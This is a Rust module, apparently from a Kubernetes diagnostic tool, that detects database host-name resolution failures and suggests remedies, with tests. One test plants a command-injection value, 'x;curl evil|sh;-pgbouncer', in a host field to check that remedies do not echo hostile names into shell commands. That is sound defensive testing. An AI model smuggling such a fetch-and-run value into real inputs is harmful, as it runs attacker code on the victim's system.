//! The database's host name cannot be resolved.

use super::shared::{ConnectionFailure, explained, probed};
use crate::{causes::prelude::*, model::shell, observe::SecretState};

pub(crate) static CAUSE: Cause = Cause {
    blocks_migration: true,
    is_connection: true,
    passes_by_itself: true,
    explains: consequences::OF_NO_CONNECTION,
    log: &[&LOG],
    check: Some(check),
    ..Cause::critical(Component::Database, include_str!("host_not_found.md"))
};

/// Why the name has no address.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Variant {
    /// The pooler looked it up.
    Pooler,
    /// No DNS server answered.
    Temporary,
    /// There is no such name.
    Unknown,
}

/// What resolvers say.
const RESOLVER: &[&str] = &[
    "could not translate host name",
    "Name or service not known",
    "Name does not resolve",
    "No address associated with hostname",
    "nodename nor servname",
    "name resolution",
    "Non-recoverable failure in name",
];

static LOG: Rule<Variant> = Rule {
    precedence: 345,
    signatures: &[
        Signature::of_database(Variant::Pooler, &["DNS lookup failed"]),
        Signature::of_database(Variant::Temporary, RESOLVER).also(&["Temporary failure", "Try again"]),
        Signature::of_database(Variant::Unknown, RESOLVER),
    ],
    details,
    explain: |evidence, occurrence, variant| explained(evidence, occurrence, variant, words),
    is_over: None,
};

#[expect(clippy::unnecessary_wraps, reason = "the form of a rule's function")]
fn details(failure: &Failure<'_>, _: Variant) -> Option<FailureDetails> {
    let endpoint = failure.endpoint();
    Some(FailureDetails { is_vague: endpoint.host.is_none(), endpoint, ..FailureDetails::default() })
}

/// What the name of a Service ends with that is meant to be the official chart's PgBouncer.
const POOLER: &str = "-pgbouncer";

fn check(context: &Context<'_>) -> Vec<Draft> {
    // Certain without asking any DNS server, and more to the point than that the name has no address.
    if let Some(found) = misnamed_pooler(context) {
        return vec![found];
    }
    let variant = |_, read: Option<Variant>| read.unwrap_or(Variant::Unknown);
    probed(context, Code::DatabaseHostNotFound, &LOG, variant, words)
}

fn words(failed: &ConnectionFailure<'_, Variant>) -> (String, String) {
    let (who, variable) = (failed.who, failed.variable);
    let host = failed.endpoint().host.as_deref().unwrap_or("of the database");
    let name = failed.endpoint().host.as_ref().map(|host| format!(" {host}")).unwrap_or_default();
    match failed.variant {
        Variant::Pooler => (
            format!(
                "{} cannot resolve the database's host name{}.",
                failed.pooler_behind(),
                // What a client names is the pooler itself.
                if failed.stage == Stage::Pooler { name } else { String::new() }
            ),
            "Correct the host in the pooler's own database settings (PgBouncer: [databases] host=…), then restart the \
             pooler."
                .to_owned(),
        ),
        Variant::Temporary => (
            format!("{who} cannot resolve the database's host name {host}: no DNS server answered."),
            format!(
                "See whether DNS works from a pod; a NetworkPolicy has to allow UDP and TCP port 53 to the cluster's \
                 DNS. {}",
                failed.name_test()
            ),
        ),
        Variant::Unknown => (
            format!("{who} cannot find the database: no DNS name {host} exists as seen from its pod."),
            format!(
                "Correct the host in {variable} (or DJANGO_DB_HOST). A Service of another namespace needs its long \
                 name, SERVICE.NAMESPACE.svc.cluster.local. {}",
                failed.name_test()
            ),
        ),
    }
}

/// The official chart tells the API `<release>-pgbouncer`, while its Service has the chart's full name (`_helpers.tpl`
/// and `service-pgbouncer.yaml` of chart 0.81.0). They agree only where the release is called flagsmith.
fn misnamed_pooler(context: &Context<'_>) -> Option<Draft> {
    let (installation, observation) = (context.installation, context.observation);
    let SecretState::Present(database) = &observation.secrets.database else {
        return None;
    };
    let host = database.host.split('.').next().filter(|host| host.ends_with(POOLER))?;
    if observation.services.iter().any(|name| name == host) {
        return None;
    }
    let service = observation.services.iter().find(|name| name.ends_with(POOLER))?;
    let namespace = &installation.identity.namespace;
    let host_named = shell::name(host, "HOST");
    Some(Draft {
        message: format!(
            "DATABASE_URL names the host {host}, which does not exist: the chart's PgBouncer is called {service}."
        ),
        evidence: vec![
            format!("the API's DATABASE_URL points to {database}"),
            format!("Services in namespace {namespace}: {service}, and no {host}"),
        ],
        remedy: format!(
            "Give PgBouncer the name that the chart writes into the URL: kubectl -n {namespace} create service \
             externalname {host_named} --external-name {service}.{namespace}.svc.cluster.local"
        ),
        ..Code::DatabaseHostNotFound.draft()
    })
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;
    use crate::causes::{
        database::shared::testing::{HOSTILE, OPERATIONAL, host_of, observed, only, read, remedy},
        diagnose,
        log::failure::Stage,
    };
    use crate::fixtures::{installation, minimal};
    use crate::observe::{DatabaseProbe, Observation, ProbeFailureKind};
    use crate::postgres::DatabaseIdentity;
    use crate::validate::ManagedBy;

    #[rstest]
    #[case(
        "could not translate host name \"nosuch.invalid\" to address: Name or service not known",
        Variant::Unknown
    )]
    #[case(
        "could not translate host name \"db\" to address: Temporary failure in name resolution",
        Variant::Temporary
    )]
    #[case("could not translate host name \"db\" to address: Name does not resolve", Variant::Unknown)]
    #[case(
        "could not translate host name \"db\" to address: No address associated with hostname",
        Variant::Unknown
    )]
    #[case(
        "connection to server at \"127.0.0.1\", port 6432 failed: FATAL:  server DNS lookup failed",
        Variant::Pooler
    )]
    fn recognises(#[case] message: &str, #[case] expected: Variant) {
        assert_eq!(
            read(&LOG, Stage::Wait, OPERATIONAL, message),
            Some((Code::DatabaseHostNotFound, expected))
        );
    }

    #[rstest]
    #[case("failed to lookup address information: Name or service not known", "no DNS name db.prod exists")]
    #[case(
        "failed to lookup address information: Temporary failure in name resolution",
        "no DNS server answered"
    )]
    fn a_log_and_the_operator_say_the_same(#[case] said: &str, #[case] message: &str) {
        let seen = only(&observed(ProbeFailureKind::HostNotFound, said));
        assert!(seen.message.contains(message), "{seen:#?}");
        assert!(seen.remedy.ends_with("nslookup db.prod"), "{seen:#?}");
    }

    #[test]
    fn a_hostile_host_is_not_repeated_in_a_command() {
        for name in HOSTILE {
            let message =
                format!("could not translate host name \"{name}\" to address: Name or service not known");
            let remedy = remedy(OPERATIONAL, &message);
            let expected = format!("nslookup {}", host_of(name));
            assert!(remedy.ends_with(&expected), "{remedy}");
        }
        let mut observation = observed(ProbeFailureKind::HostNotFound, "no");
        observation.services = vec!["acme-flagsmith-pgbouncer".to_owned()];
        observation.secrets.database = SecretState::Present(DatabaseIdentity {
            host: "x;curl evil|sh;-pgbouncer".to_owned(),
            ..crate::fixtures::database()
        });
        let remedy = only(&observation).remedy;
        assert!(remedy.contains("externalname HOST --external-name"), "{remedy}");
    }

    #[test]
    fn a_pgbouncer_that_is_called_otherwise() {
        let mut wanted = installation(&minimal());
        wanted.managed_by =
            ManagedBy::Helm { release: "acme".to_owned(), chart: None, namespace: "prod".to_owned() };
        let mut observation =
            observed(ProbeFailureKind::HostNotFound, "failed to lookup address information");
        observation.services.push("acme-flagsmith-pgbouncer".to_owned());
        observation.secrets.database = SecretState::Present(DatabaseIdentity {
            host: "acme-pgbouncer".to_owned(),
            port: 5432,
            name: "flagsmith".to_owned(),
        });
        let of = |observation: &Observation| {
            let found = diagnose(&wanted, observation);
            found.into_iter().find(|it| it.code == Code::DatabaseHostNotFound)
        };
        assert_eq!(
            of(&observation).unwrap().remedy,
            "Give PgBouncer the name that the chart writes into the URL: kubectl -n prod create service externalname acme-pgbouncer --external-name acme-flagsmith-pgbouncer.prod.svc.cluster.local"
        );
        observation.services.push("acme-pgbouncer".to_owned());
        observation.database = DatabaseProbe::NotProbed;
        assert_eq!(of(&observation), None);
    }
}
